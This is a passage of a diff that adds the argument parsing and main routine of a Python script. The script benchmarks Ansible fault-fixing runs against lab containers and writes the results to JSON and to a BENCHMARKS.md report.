+    parser.add_argument("--forks", type=int, default=30)
+    parser.add_argument("--faults", default=",".join(DEFAULT_FAULTS), help="comma-separated fault kinds")
+    parser.add_argument("--latency", type=float, default=2.0, help="simulated LLM latency of scenario (b)")
+    parser.add_argument("--scaling", "--scale", default="10,20,30", help="host counts of the scaling table")
+    parser.add_argument("--fork-sweep", default="10", help="extra fork counts at the full host count")
+    parser.add_argument("--knobs", default="ANSIBLE_PIPELINING=false",
+                        help="comma-separated ANSIBLE_X=value settings, each timed as one more (a) run")
+    parser.add_argument("--skip-scaling", action="store_true")
+    parser.add_argument("--prefix", default=PREFIX)
+    parser.add_argument("--keep", action="store_true", help="keep the lab containers")
+    parser.add_argument("--results", default=str(BENCH / "results.json"))
+    parser.add_argument("--markdown", default=str(REPO / "BENCHMARKS.md"))
+    parser.add_argument("--notes", help="a Markdown file appended to BENCHMARKS.md (analysis of this run)")
+    parser.add_argument("--render-only", action="store_true", help="re-render the Markdown from --results")
+    opts = parser.parse_args(argv)
+    opts.faults = tuple(f.strip() for f in opts.faults.split(",") if f.strip())
+    unknown = [f for f in opts.faults if f not in FLOOR_FAULTS]
+    if unknown:
+        parser.error(f"bench/floor.yml knows no fix for {', '.join(unknown)}; use {', '.join(FLOOR_FAULTS)}")
+    opts.scaling = [int(n) for n in opts.scaling.split(",") if n.strip() and int(n) <= opts.hosts]
+    opts.fork_sweep = [int(n) for n in opts.fork_sweep.split(",") if n.strip()]
+    opts.knobs = [k.strip() for k in opts.knobs.split(",") if "=" in k]
+    notes = Path(opts.notes).read_text(encoding="utf-8") if opts.notes else ""
+    if opts.render_only:
+        results = json.loads(Path(opts.results).read_text(encoding="utf-8"))
+        Path(opts.markdown).write_text(render_markdown(results, notes), encoding="utf-8")
+        return 0
+    bench = Bench(opts)
+    try:
+        results = bench.run()
+    finally:
+        if not opts.keep:
+            bench.fleet.lab.down()
+    Path(opts.results).write_text(json.dumps(results, indent=2, sort_keys=False) + "\n", encoding="utf-8")
+    Path(opts.markdown).write_text(render_markdown(results, notes), encoding="utf-8")
+    for t in results["targets"]:
+        log(f"{'MET ' if t['met'] else 'MISS'} {t['target']}: {t['value']}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
